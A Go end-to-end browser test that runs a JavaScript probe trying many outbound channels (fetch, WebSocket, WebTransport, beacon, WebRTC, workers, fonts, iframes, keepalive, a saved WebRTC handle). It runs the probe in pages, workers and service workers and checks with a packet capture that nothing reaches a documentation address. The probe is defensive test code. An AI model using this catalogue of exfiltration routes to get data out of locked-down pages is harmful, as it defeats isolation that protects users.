package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// hostile tries every way in which a script might reach another computer, each on its own
// port, and reports the result of each. It runs in a page, in a worker and in a service
// worker.
const hostile = `(async (host, without) => {
  const at = (scheme, port) => scheme + "://" + host + ":" + port + "/";
  const enough = new Promise((done) => setTimeout(done, 2000, "no answer"));
  const ended = (o, bad) => new Promise((done) => o.addEventListener(bad, () => done("refused")));
  const element = (e) => { document.body.append(e); return ended(e, "error"); };
  const call = async (Connection, port) => {
    const c = new Connection({iceServers: [{urls: "stun:" + host + ":" + port}]});
    c.createDataChannel("x");
    await c.setLocalDescription(await c.createOffer());
    await enough;
  };
  const ways = {
    fetch: () => fetch(at("http", 8001), {mode: "no-cors"}),
    socket: () => ended(new WebSocket(at("ws", 8002)), "error"),
    transport: () => new WebTransport(at("https", 8003)).ready,
    beacon: () => navigator.sendBeacon(at("http", 8004), "leaves"),
    image: () => element(Object.assign(new Image(), {src: at("http", 8005)})),
    rtc: () => call(RTCPeerConnection, 8006),
    // The same where someone got hold of it before the page put it away.
    rtcKept: () => call(keptRTC, 8014),
    xhr: () => { const x = new XMLHttpRequest(); const end = ended(x, "error"); x.open("GET", at("http", 8007)); x.send(); return end; },
    events: () => ended(new EventSource(at("http", 8008)), "error"),
    script: () => typeof importScripts === "function" ? importScripts(at("http", 8009)) : element(Object.assign(document.createElement("script"), {src: at("http", 8009)})),
    frame: () => { document.body.append(Object.assign(document.createElement("iframe"), {src: at("http", 8010)})); return enough; },
    cache: async () => (await caches.open("hostile")).add(new Request(at("http", 8011), {mode: "no-cors"})),
    kept: () => fetch(new Request(at("http", 8012), {mode: "no-cors", keepalive: true})),
    font: () => new FontFace("x", "url(" + at("http", 8013) + ")").load(),
    worker: () => ended(new Worker(at("http", 8015)), "error"),
  };
  // A worker of its own making, as the voice's is that of the program's worker.
  ways.nested = () => new Promise((done) => {
    const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + at("http", 8016) + '", {mode: "no-cors"}).then(() => postMessage("done"), (e) => postMessage(String(e)))'])));
    w.onmessage = (e) => done(e.data);
    w.onerror = () => done("refused");
  });
  for (const way of without) delete ways[way];
  const outcome = {};
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    try { outcome[name] = String(await Promise.race([way(), enough]) ?? "done"); } catch (e) { outcome[name] = e.name + ": " + e.message; }
  }));
  return outcome;
})(%s, %s)`

// wayPorts are the ports that hostile tries.
var wayPorts = map[string]int{"fetch": 8001, "socket": 8002, "transport": 8003, "beacon": 8004, "image": 8005, "rtc": 8006, "xhr": 8007,
	"events": 8008, "script": 8009, "frame": 8010, "cache": 8011, "kept": 8012, "font": 8013, "rtcKept": 8014, "nested": 8016}

// TestHostileCodeReachesNobody runs hostile code in the page, in every worker and in the
// service worker of both hosts, in a network namespace whose way out is captured: no
// packet leaves. On a page without a policy the capture sees the same code use each way.
// The site is also checked on its first load, on a host that sends no headers, before its
// service worker runs and without one.
func TestHostileCodeReachesNobody(t *testing.T) {
	if os.Getenv(island) == "" {
		t.Parallel()
		for _, part := range []string{"control", "native", "site", "without"} {
			t.Run(part, runOnIsland)
		}
		return
	}
	out := settle(t)
	t.Run("control", func(t *testing.T) { hostileControl(t, out) })
	t.Run("native", func(t *testing.T) {
		b := serve(t, t.TempDir()).visit(quiet...)
		installPack(b)
		b.before(keepRTC)
		b.do(chromedp.Reload())
		b.see(".today")
		b.listenOn()
		hostileIn(t, out, b, nil, "page", "worker")
	})
	t.Run("site", func(t *testing.T) {
		b := visitSite(t, hostSite(t).url, quiet...)
		b.ready()
		speaking(b)
		b.listenOn()
		hostileIn(t, out, b, onlyByHeader, "page", "worker", "service_worker")
		b.before(keepRTC)
		b.do(chromedp.Reload())
		b.ready()
		speaking(b)
		hostileIn(t, out, b, nil, "page", "worker", "service_worker")
	})
	// The first load in a browser that has, or allows, no service worker.
	t.Run("without", func(t *testing.T) {
		b := &tab{t, siteBrowser(t, quiet...)}
		visitIn(t, b.ctx, hostSite(t).url, "delete Navigator.prototype.serviceWorker;"+besides+";"+microphone)
		b.ready()
		speaking(b)
		hostileIn(t, out, b, onlyByHeader, "page", "worker")
	})
}

// onlyByHeader are ways that Chromium blocks only by a header, and not by a policy inside
// the page; docs/hosting.md says so.
var onlyByHeader = []string{"frame", "rtcKept"}

// keepRTC takes hold of WebRTC before the page removes it.
const keepRTC = `window.keptRTC = window.RTCPeerConnection;`

// before makes a script run before the scripts of the pages opened from now on.
func (b *tab) before(script string) {
	b.t.Helper()
	b.do(chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		_, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: script})
		return err
	}))
}

// speaking starts the voice's worker.
func speaking(b *tab) {
	b.t.Helper()
	js[bool](b.t, b.ctx, `fetch("api/speak", {method: "POST", body: JSON.stringify({text: "Paris is the capital.", lang: "en"})}).then(async r => { if (!r.ok) throw new Error(await r.text()); return (await r.arrayBuffer()).byteLength > 0; })`)
}

// hostileIn runs the code in everything in a browser that runs scripts, and expects no
// packet. It skips the ways in without, and requires the kinds of script context in kinds.
func hostileIn(t *testing.T, out *wire, b *tab, without []string, kinds ...string) {
	t.Helper()
	out.sinceThen()
	met := map[string]bool{}
	for _, where := range scopes(t, b) {
		met[where.kind] = true
		outcome := js[map[string]string](t, where.ctx, hostile, `"198.51.100.7"`, list(t, without))
		time.Sleep(time.Second)
		if seen := slices.DeleteFunc(out.sinceThen(), neighbours); len(seen) > 0 {
			t.Errorf("from the %s %s left %s; the outcome was %v", where.kind, where.url, strings.Join(seen, ", "), outcome)
		}
		t.Logf("%s %s: %v", where.kind, where.url, outcome)
	}
	for _, k := range kinds {
		if !met[k] {
			t.Errorf("there was no %s to run in", k)
		}
	}
	if out.fault != nil {
		t.Errorf("the capture broke: %v", out.fault)
	}
}

// neighbours reports whether a packet is the browser's own announcement on the local
// network when WebRTC is used: a random name for this computer. No script can put data
// into it.
func neighbours(what string) bool {
	return what == "UDP to 224.0.0.251:5353" || what == "protocol 2 to 224.0.0.22"
}

func list(t *testing.T, names []string) string {
	t.Helper()
	data, err := json.Marshal(append([]string{}, names...))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// scope is one context in a browser that runs scripts.
type scope struct {
	kind, url string
	ctx       context.Context
}

// scopes lists the page, its workers and the service workers.
func scopes(t *testing.T, b *tab) []scope {
	t.Helper()
	all := []scope{{"page", js[string](t, b.ctx, `location.href`), b.ctx}}
	targets, err := chromedp.Targets(b.ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, at := range targets {
		// A worker of a worker has no address in the list and cannot be attached to. hostile
		// itself makes one.
		if at.Type != "worker" && at.Type != "service_worker" || at.URL == "" {
			continue
		}
		ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithTargetID(at.TargetID), chromedp.WithDetachOnCancel())
		t.Cleanup(cancel)
		attached := make(chan error, 1)
		go func() { attached <- chromedp.Do(ctx) }()
		select {
		case err := <-attached:
			if err != nil {
				t.Fatalf("attaching to the %s %s: %v", at.Type, at.URL, err)
			}
		case <-time.After(60 * time.Second):
			t.Fatalf("attaching to the %s %s takes more than a minute", at.Type, at.URL)
		}
		all = append(all, scope{string(at.Type), at.URL, ctx})
	}
	return all
}

// hostileControl runs the code on a page without a policy: the capture must see every way
// that this kind of context has.
func hostileControl(t *testing.T, out *wire) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			io.WriteString(w, `<!doctype html><meta charset="utf-8"><body><script>window.w = new Worker("w.js"); navigator.serviceWorker.register("sw.js").then(() => navigator.serviceWorker.ready).then(() => document.title = "ready")</script>`)
			return
		}
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, "self.here = true;")
	}))
	t.Cleanup(srv.Close)
	b := &tab{t, browser(t, quiet...)}
	b.begins()
	b.before(keepRTC)
	b.do(chromedp.Navigate(srv.URL + "/"))
	b.waitFor(60*time.Second, "for the workers", `document.title === "ready"`)
	everywhere := []string{"fetch", "socket", "transport", "events", "cache", "kept"}
	ways := map[string][]string{
		"page":           slices.Concat(everywhere, []string{"beacon", "image", "rtc", "rtcKept", "xhr", "script", "frame", "font", "nested"}),
		"worker":         slices.Concat(everywhere, []string{"xhr", "font", "nested"}),
		"service_worker": everywhere,
	}
	for i, where := range scopes(t, b) {
		host := fmt.Sprintf("198.51.100.%d", 20+i) // a browser waits before it asks one again
		var without []string
		if where.kind != "page" {
			without = []string{"script"} // waits for an answer that never comes, and blocks everything else
		}
		outcome := js[map[string]string](t, where.ctx, hostile, strconv.Quote(host), list(t, without))
		want := map[string]bool{}
		for _, way := range ways[where.kind] {
			want[way] = true
		}
		delete(ways, where.kind)
		var all []string
		until(t, 60*time.Second, fmt.Sprintf("to see all ways out of a %s; the outcome was %v", where.kind, outcome), func() bool {
			all = append(all, out.sinceThen()...)
			for way := range maps.Clone(want) {
				if strings.Contains(strings.Join(all, " "), fmt.Sprintf("%s:%d", host, wayPorts[way])) {
					delete(want, way)
				}
			}
			if len(want) > 0 {
				time.Sleep(200 * time.Millisecond)
			}
			return len(want) == 0
		})
	}
	if len(ways) > 0 {
		t.Errorf("nothing was tried in %v", slices.Collect(maps.Keys(ways)))
	}
}
